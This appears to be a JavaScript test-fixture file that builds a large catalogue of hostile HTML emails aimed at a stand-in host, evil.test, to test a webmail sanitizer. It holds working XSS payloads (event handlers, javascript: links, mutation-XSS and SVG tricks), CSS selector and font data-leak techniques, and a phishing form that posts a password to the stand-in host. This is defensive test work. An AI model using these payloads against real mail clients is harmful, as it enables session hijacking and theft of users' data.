// Hostile mail: each case tries to run something, to load something from elsewhere, to leave its frame, or to send
// what is typed or known. `e(what)` is an address at the attacker's; RUN is a script that could tell of itself.
// The fixed cases are what webmails have fallen for; the made ones (last) are every way to name an address, in
// every disguise.

export const RUN = "top.pwned=(top.pwned||0)+1";

/** [{ name, html, headers? }] for one attacker's host ("evil.test:1234"). */
export function cases(host) {
	const list = [];
	const add = (name, make, more = {}) => {
		const e = (what = "x") => `http://${host}/${list.length}-${name.replace(/[^a-z0-9]+/gi, "-")}/${what}`;
		list.push({ name, html: make(e), ...more });
	};
	scripts(add);
	pictures(add);
	styles(add);
	links(add, host);
	embedded(add);
	forms(add);
	confusion(add);
	places(add);
	charsets(add);
	made(add, host);
	return list;
}

function scripts(add) {
	add("script element", (e) => `<script>${RUN}</script><script src="${e()}"></script>`);
	add("script in an SVG", (e) => `<svg><script>${RUN}</script><script href="${e()}"/></svg>`);
	add("event attributes", () => `<img src=x onerror="${RUN}"><body onload="${RUN}" onpageshow="${RUN}"><div onclick="${RUN}" onmouseover="${RUN}" onpointerenter="${RUN}" style="position:absolute;inset:0">over</div>`);
	add("event attributes without blanks", () => `<img/src="x"/onerror=${RUN}><svg/onload=${RUN}><details/open/ontoggle=${RUN}><summary>s</summary></details>`);
	add("animation events", () => `<style>@keyframes k{from{color:red}to{color:blue}}</style><p style="animation:k 1s" onanimationstart="${RUN}" onanimationend="${RUN}" ontransitionend="${RUN}">x</p>`);
	add("javascript links", () => `<a id=j href="javascript:${RUN}">a</a><a href=" jAvAscript:${RUN}">b</a><a href="java&#10;script:${RUN}">c</a><a href="&#1;javascript:${RUN}">d</a><a href="javascript&colon;${RUN}">e</a>`);
	add("data and vbscript links", () => `<a href="data:text/html,<script>${RUN}</script>">a</a><a href="vbscript:x">b</a><a href="view-source:about:blank">c</a><a href="blob:null/x">d</a>`);
	add("SVG animate sets href", (e) => `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y=20>click</text></a><image><animate attributeName="href" values="${e()}" /></image></svg>`);
	add("SVG set and use", (e) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/><use xlink:href="${e("u.svg#x")}"/><set attributeName="onmouseover" to="${RUN}"/></svg>`);
	add("SVG foreignObject", (e) => `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"><iframe src="${e()}"></iframe></body></foreignObject></svg>`);
	add("SVG as a data picture", () => `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`).toString("base64")}">`);
	add("MathML href and action", () => `<math href="javascript:${RUN}"><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction><mtext><img src=x onerror=${RUN}></mtext></math>`);
	add("srcdoc", () => `<iframe srcdoc="<script>${RUN}</script>"></iframe><iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;"></iframe>`);
	add("iframe of javascript", () => `<iframe src="javascript:${RUN}"></iframe><iframe src="data:text/html,<script>${RUN}</script>"></iframe>`);
	add("object and embed of data", () => `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="data:text/html,<script>${RUN}</script>"><object type="text/x-scriptlet" data="x"></object>`);
	add("XML islands and VML", (e) => `<xml id=i><x><c><![CDATA[<img src=x onerror=${RUN}>]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html></span><v:rect style="behavior:url(${e()})"/>`);
	add("conditional comments", (e) => `<!--[if gte mso 9]><script>${RUN}</script><img src="${e()}"><![endif]--><![if !mso]><img src="${e("2")}"><![endif]>`);
	add("import maps and modules", (e) => `<script type="importmap">{"imports":{"x":"${e()}"}}</script><script type=module>import "x"; ${RUN}</script><script type="speculationrules">{"prefetch":[{"urls":["${e("s")}"]}]}</script>`);
	add("custom elements and templates", () => `<x-a is="x" onfocus="${RUN}" autofocus tabindex=0>x</x-a><template shadowrootmode="open"><img src=x onerror="${RUN}"><slot></slot></template><div><template shadowrootmode=open><script>${RUN}</script></template></div>`);
	add("autofocus and popover", () => `<input autofocus onfocus="${RUN}"><div popover id=p onbeforetoggle="${RUN}">p</div><button popovertarget=p autofocus onfocus="${RUN}">x</button><a href=# accesskey=x onclick="${RUN}">k</a>`);
}

function pictures(add) {
	add("img", (e) => `<img src="${e()}"><img src='${e("2")}'><img src=${e("3")}>`);
	add("image, input image, picture", (e) => `<image src="${e()}"><input type=image src="${e("2")}"><picture><source srcset="${e("3")}"><img src="${e("4")}"></picture>`);
	add("srcset and sizes", (e) => `<img srcset="${e()} 1x, ${e("2")} 2x" sizes="100vw"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="${e("3")}">`);
	add("background attributes", (e) => `<body background="${e()}"><table background="${e("2")}"><tr background="${e("5")}"><td background="${e("3")}">x</td></tr></table><center background="${e("4")}">y</center>`);
	add("newlines and tabs in an address", (e) => `<img src="ht\ntp://${e().slice(7)}"><img src="\thttp:\\\\${e().slice(7)}"><img src="http:${e().slice(5)}">`);
	add("no scheme", (e) => `<img src="${e().slice(5)}"><img src="/\\${e().slice(7)}"><img src="\\\\${e().slice(7)}">`);
	add("this server's own addresses", () => `<img src="/logout"><img src="/jmap/image?url=http://evil.test/x"><img src="/jmap/session"><img src="?x"><a href="/logout" ping="/logout">x</a>`);
	add("lowsrc, dynsrc, longdesc, usemap", (e) => `<img lowsrc="${e()}" dynsrc="${e("2")}" longdesc="${e("3")}" usemap="${e("4")}#m"><map name=m><area href="${e("5")}" ping="${e("6")}" shape=default></map>`);
	add("SVG image, feImage, filter", (e) => `<svg width=9 height=9><image href="${e()}" width=9 height=9 /><image xlink:href="${e("2")}" width=9 height=9 /><filter id=f><feImage href="${e("3")}"/></filter><rect width=9 height=9 filter="url(#f)" fill="url(${e("4")}#p)" mask="url(${e("5")}#m)"/></svg>`);
	add("audio, video, track, poster", (e) => `<video poster="${e()}" src="${e("2")}" autoplay></video><audio src="${e("3")}" autoplay></audio><video autoplay><source src="${e("4")}"><track src="${e("5")}" default kind=subtitles></video>`);
	add("attribution and fetch hints", (e) => `<img src="${e()}" attributionsrc="${e("2")}" fetchpriority=high loading=eager crossorigin><img loading=lazy src="${e("3")}">`);
	add("table and marquee of old", (e) => `<marquee background="${e()}" onstart="${RUN}">x</marquee><bgsound src="${e("2")}"><layer src="${e("3")}"></layer><ilayer src="${e("4")}"></ilayer>`);
	add("isindex, keygen, nextid", (e) => `<isindex action="${e()}" type=image src="${e("2")}"><keygen autofocus onfocus="${RUN}"><nextid n=x>`);
}

function styles(add) {
	add("import", (e) => `<style>@import "${e()}"; @import url(${e("2")}); @import url("${e("3")}") screen;</style>x`);
	add("import behind a character set", (e) => `<style>@charset "utf-8";@layer a;@import url(${e()}) layer(a);@namespace url(${e("2")});</style>x`);
	add("url in style attribute", (e) => `<p style="background:url(${e()})">a</p><p style="background-image:url('${e("2")}')">b</p><p style='list-style:url("${e("3")}")'>c</p>`);
	add("unclosed url", (e) => `<p style="background:url(${e()}">a</p><style>p{background:url(${e("2")}</style><p style="background:url('${e("3")}">b</p>`);
	add("escaped url", (e) => `<p style="background:\\75\\72\\6c(${e()})">a</p><p style="background:u\\rl(${e("2")})">b</p><p style="back\\67round:\\000075rl(${e("3")})">c</p>`);
	add("comments in url", (e) => `<p style="background:/**/url(${e()})/**/">a</p><p style="background:ur/**/l(${e("2")})">b</p>`);
	add("CSS variables", (e) => `<style>:root{--a:url(${e()});--b:${e("2")};--c:url(}p{background:var(--a);border-image:var(--d,url(${e("3")}))}</style><p style="--x:url(${e("4")});background:var(--x)">x</p>`);
	add("image-set, cross-fade, element, src, paint", (e) => `<style>p{background:image-set("${e()}" 1x);background:-webkit-image-set(url(${e("2")}) 1x);background-image:-webkit-cross-fade(url(${e("3")}),url(${e("4")}),50%);content:src("${e("5")}")}i::before{content:url(${e("6")})}</style><p>x<i>y</i></p>`);
	add("font-face", (e) => `<style>@font-face{font-family:e;src:url(${e()}) format("woff2"),local("x");unicode-range:U+41-5A}p{font-family:e}</style><p>ABC</p>`);
	add("leak by unicode-range", (e) => `<style>${["A", "B", "C"].map((c) => `@font-face{font-family:l;src:url(${e(c)});unicode-range:U+00${c.charCodeAt(0).toString(16)}}`).join("")}p{font-family:l}</style><p>CAB</p>`);
	add("exfiltration by attribute selectors", (e) => `<style>${["a", "b", "0"].map((c) => `input[value^="${c}"]{background:url(${e(c)})}a[href*="${c}"]{background:url(${e("h" + c)})}`).join("")}:root:has(a){background:url(${e("has")})}</style><input value="a1"><a href="https://a.example/b0">l</a>`);
	add("cursor, filter, mask, clip-path, shape", (e) => `<p style="cursor:url(${e()}),auto;filter:url(${e("2")}#f);-webkit-mask:url(${e("3")});mask-image:url(${e("4")});clip-path:url(${e("5")}#c);shape-outside:url(${e("6")});border-image:url(${e("7")}) 1">x</p>`);
	add("behavior, binding, expression", (e) => `<p style="behavior:url(${e()});-moz-binding:url(${e("2")}#x);width:expression(${RUN})">x</p>`);
	add("media and supports", (e) => `<style>@media screen{p{background:url(${e()})}}@supports (display:grid){p{list-style-image:url(${e("2")})}}@container (min-width:0){p{background:url(${e("3")})}}@scope (body){p{background:url(${e("4")})}}@starting-style{p{background:url(${e("5")})}}</style><p>x</p>`);
	add("style closed within a string", (e) => `<style>a{content:"</style><img src=x onerror=${RUN}><img src=${e()}>"}</style>`);
	add("style with CDATA and comments", (e) => `<style><!-- p{background:url(${e()})} --></style><style><![CDATA[p{background:url(${e("2")})}]]></style><p>x</p>`);
	add("page and print", (e) => `<style>@page{background:url(${e()});@top-left{content:url(${e("2")})}}@media print{p{background:url(${e("3")})}}</style><p>x</p>`);
	add("link style sheet", (e) => `<link rel=stylesheet href="${e()}"><link rel="alternate stylesheet" title=x href="${e("2")}"><LINK REL=STYLESHEET HREF=${e("3")} TYPE=text/css>`);
	add("style sheet by header words", (e) => `<meta http-equiv="Link" content="<${e()}>; rel=stylesheet"><?xml-stylesheet href="${e("2")}"?>x`);
	add("anchor positioning and view transitions", (e) => `<style>::view-transition-new(root){background:url(${e()})}@view-transition{navigation:auto}p::backdrop{background:url(${e("2")})}</style><p>x</p>`);
}

function links(add, host) {
	add("prefetch, preload, preconnect", (e) => `<link rel=prefetch href="${e()}"><link rel=preload as=image href="${e("2")}"><link rel=preload as=script href="${e("3")}"><link rel=modulepreload href="${e("4")}"><link rel=preconnect href="${e()}"><link rel=prerender href="${e("5")}"><link rel=preload as=image imagesrcset="${e("6")}">`);
	add("DNS prefetch", (e) => `<link rel=dns-prefetch href="//dns.evil.test"><meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://hover.evil.test/">x</a><a href="https://second.evil.test/">${e()}</a>`);
	add("icon, manifest, canonical", (e) => `<link rel=icon href="${e()}"><link rel="shortcut icon" href="${e("2")}"><link rel=manifest href="${e("3")}"><link rel="apple-touch-icon" href="${e("4")}"><link rel=search href="${e("5")}"><link rel=pingback href="${e("6")}">`);
	add("meta refresh", (e) => `<meta http-equiv=refresh content="0;url=${e()}"><meta http-equiv="Refresh" content="0; url='javascript:${RUN}'">x`);
	add("meta policies", (e) => `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"><meta http-equiv="Content-Security-Policy-Report-Only" content="default-src 'none'; report-uri ${e()}"><meta http-equiv="set-cookie" content="a=b"><meta name=referrer content=unsafe-url><img src="${e("2")}">`);
	add("base", (e) => `<base href="${e()}" target=_top><img src="rel.png"><a href="rel">x</a><p style="background:url(rel2.png)">y</p>`);
	add("base of javascript", () => `<base href="javascript:/a/-${RUN};//"><a href="/x">x</a>`);
	add("targets", (e) => `<a href="${e()}" target=_top>a</a><a href="${e("2")}" target=_parent>b</a><a href="${e("3")}" target=_self rel=opener>c</a><a href="${e("4")}" target=main>d</a>`);
	add("ping and download", (e) => `<a href="https://a.example/" ping="${e()} ${e("2")}" download="x.exe">x</a><area href="${e("3")}" ping="${e("4")}">`);
	add("links that say other sites", (e) => `<a href="${e()}">https://bank.example/login</a><a href="http://xn--80ak6aa92e.com/">apple</a><a href="https://bank.example@${host}/">bank.example</a>`);
	add("credentials in addresses", (e) => `<img src="${e().replace("://", "://user:pw@")}"><img src="ftp://evil.test/x"><img src="ws://${host}/x"><img src="file:///etc/passwd"><img src="filesystem:http://x">`);
}

function embedded(add) {
	add("iframe", (e) => `<iframe src="${e()}"></iframe><iframe src="/mail/inbox"></iframe><iframe src="/frame"></iframe>`);
	add("frameset", (e) => `<frameset cols="*,*"><frame src="${e()}"><frame src="javascript:${RUN}"></frameset>`);
	add("object, embed, applet", (e) => `<object data="${e()}"></object><embed src="${e("2")}"><applet code="x" archive="${e("3")}" codebase="${e("4")}"></applet><object classid="clsid:x" codebase="${e("5")}"><param name=movie value="${e("6")}"></object>`);
	add("portal, fencedframe", (e) => `<portal src="${e()}"></portal><fencedframe src="${e("2")}"></fencedframe><webview src="${e("3")}"></webview>`);
	add("web bundles and more links", (e) => `<link rel=webbundle href="${e()}" resources="${e("2")}"><link rel="compression-dictionary" href="${e("3")}"><link rel=import href="${e("4")}"><link rel=next href="${e("5")}">`);
}

function forms(add) {
	add("form", (e) => `<form action="${e()}" method=post id=f><input name=password type=password value=secret><input type=submit value="Session over, log in"></form><button form=f formaction="${e("2")}">x</button>`);
	add("form to this server", () => `<form action="/logout" method=post><button>Click</button></form><form action="/jmap/api" method=post enctype=text/plain><input name='{"using":[]}'><button>x</button></form>`);
	add("form of javascript", () => `<form action="javascript:${RUN}"><button autofocus>x</button><input type=image src=x formaction="javascript:${RUN}"></form>`);
	add("dangling markup", (e) => `<img src='${e("?")}<p>my secret words</p><a href='`);
	add("dangling textarea and select", (e) => `<form action="${e()}"><textarea name=t><p>secret</p><button formtarget=_top>go</button><select><option>`);
	add("method dialog and details", () => `<dialog open onclose="${RUN}"><form method=dialog><button>ok</button></form></dialog><details open ontoggle="${RUN}"><summary>x</summary>y</details>`);
}

function confusion(add) {
	add("mXSS: noscript", (e) => `<noscript><p title="</noscript><img src=x onerror=${RUN}><img src=${e()}>"></noscript>`);
	add("mXSS: title and textarea", (e) => `<title><p title="</title><img src=x onerror=${RUN}>"></title><textarea><p title="</textarea><img src=${e()} onerror=${RUN}>"></textarea>`);
	add("mXSS: math, mglyph, style", (e) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${e()} onerror=${RUN}&gt;">`);
	add("mXSS: svg, style, comment", () => `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`);
	add("mXSS: form in form, table", () => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`);
	add("mXSS: nested select and template", () => `<select><template><style><!--</template><a rel="--></style></template><img src=x onerror=${RUN}>">`);
	add("mXSS: annotation-xml", () => `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${RUN}"></style></annotation-xml></math><svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${RUN}>">`);
	add("mXSS: xmp, listing, plaintext", () => `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp><listing>&lt;img src=x onerror=${RUN}&gt;</listing><noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed><plaintext><img src=x onerror=${RUN}>`);
	add("mXSS: deep nesting", () => "<div>".repeat(600) + `<svg><mtext><style><a title="</style><img src=x onerror=${RUN}>">` + "</div>".repeat(600));
	add("DOM clobbering", () => `<form name=body id=documentElement><input name=parentNode><input name=attributes><input name=childNodes><img name=nodeName></form><img name=body><img name=head><img name=cookie><a id=defaultView></a><object name=getElementById></object><img name=createElement><img name=querySelectorAll><iframe name=contentWindow></iframe>`);
	add("names of our own", () => `<style>.yz-folded,.mail-frame{display:none}:root[data-paper]{color:#fff}</style><details class="yz-folded" open><summary>…</summary><p>x</p></details><base target=x>`);
	add("null octets and odd blanks", (e) => `<img\u0000 src="${e()}"><scr\u0000ipt>${RUN}</scr\u0000ipt><img\u000csrc="${e("2")}"\u000conerror=${RUN}><a href="java\u0000script:${RUN}">x</a>`);
	add("attributes without end", (e) => `<img src="${e()}" title="<script>${RUN}</script>`);
	add("comment tricks", (e) => `<!--><img src=${e()} onerror=${RUN}>--><!--><script>${RUN}</script>--!><img src=${e("2")}><!-- --!><script>${RUN}</script>`);
	add("processing instructions and doctype", (e) => `<?php echo ?><img src="${e()}"?><!DOCTYPE html [<!ENTITY x SYSTEM "${e("2")}">]>&x;<!ATTLIST x><![CDATA[<script>${RUN}</script>]]>`);
	add("namespaces", (e) => `<html xmlns:xlink="x" xmlns:e="y"><e:script>${RUN}</e:script><svg:script xmlns:svg="http://www.w3.org/2000/svg">${RUN}</svg:script><html:img xmlns:html="http://www.w3.org/1999/xhtml" src="${e()}"/>`);
}

function places(add) {
	add("overlay by position fixed", () => `<div style="position:fixed;top:-2000px;left:-2000px;width:9000px;height:9000px;z-index:2147483647;background:#fff">Your session is over. Log in: </div>`);
	add("overlay by negative margins", () => `<div style="margin:-3000px;padding:3000px;width:9000px;transform:scale(50) translate(-50%,-50%);z-index:99999;position:absolute">over</div>`);
	add("overlay by a style sheet", () => `<style>html,body{position:fixed!important;inset:0!important;width:100vw!important;height:100vh!important;z-index:9999!important;margin:-999px!important}body::before{content:"LOG IN";position:fixed;inset:-999px;background:red}</style>x`);
	add("growing for ever", () => `<style>body{min-height:calc(100% + 40px)!important}html{height:110vh!important}div{height:101vh;margin-bottom:5vh}</style><div>x</div><p style="height:200svh">y</p>`);
	add("very high and very wide", () => `<div style="height:99999999px;width:99999999px;background:#eee">x</div>`);
	add("full screen and top layer", () => `<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">x</dialog><video controls style="position:fixed;inset:0"></video><style>::backdrop{background:red}</style>`);
	add("hidden words", () => `<p style="font-size:0">hidden</p><p style="color:#fff;background:#fff">white</p><p style="text-indent:-9999px">gone</p><p dir=rtl>\u202ereversed\u202c</p>`);
}

function charsets(add) {
	add("UTF-7", () => `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, { headers: { "Content-Type": "text/html; charset=utf-7" } });
	add("charset by meta", () => `<meta charset="utf-7"><meta http-equiv=content-type content="text/html; charset=x-user-defined">+ADw-script+AD4-${RUN}+ADw-/script+AD4-`);
	add("ISO-2022-JP escapes", () => `\u001b$B<img title="\u001b(B" src=x onerror=${RUN}>\u001b(B`, { headers: { "Content-Type": "text/html; charset=iso-2022-jp" } });
	add("unknown charset", () => `<script>${RUN}</script>x`, { headers: { "Content-Type": "text/html; charset=no-such-thing" } });
	add("overlong and broken UTF-8", () => `\u00c0\u00bcscript\u00c0\u00be${RUN}\u00c0\u00bc/script\u00c0\u00be`);
	add("HTML called plain", () => `<script>${RUN}</script><img src=x onerror=${RUN}>`, { headers: { "Content-Type": "text/plain; charset=utf-8" } });
	add("script in the subject and names", () => "x", { headers: { Subject: `<img src=x onerror=${RUN}>`, From: `"<script>${RUN}</script>" <evil@evil.test>` } });
}

/* Each element and style that can name an address, each way to hide the name. */
function made(add, host) {
	const sinks = [
		["img src", (u) => `<img src="${u}">`],
		["style attribute", (u) => `<b style="background:url('${u}')">x</b>`],
		["style element", (u) => `<style>b{background:url(${u})}</style><b>x</b>`],
		["svg image", (u) => `<svg><image href="${u}" width=9 height=9 /></svg>`],
	];
	const disguises = [
		["entities", (u) => [...u].map((c) => `&#${c.charCodeAt(0)};`).join("")],
		["capitals", (u) => u.replace("http", "hTTp")],
		["CSS escapes", (u) => u.replace("http", "\\68\\74\\74\\70 ")],
		["blanks around", (u) => ` \t${u}\n `],
		["number of the host", (u) => u.replace(host, "2130706433:" + host.split(":")[1])],
	];
	for (const [where, put] of sinks)
		for (const [how, hide] of disguises)
			add(`${where}, ${how}`, (e) => put(hide(e())));
}
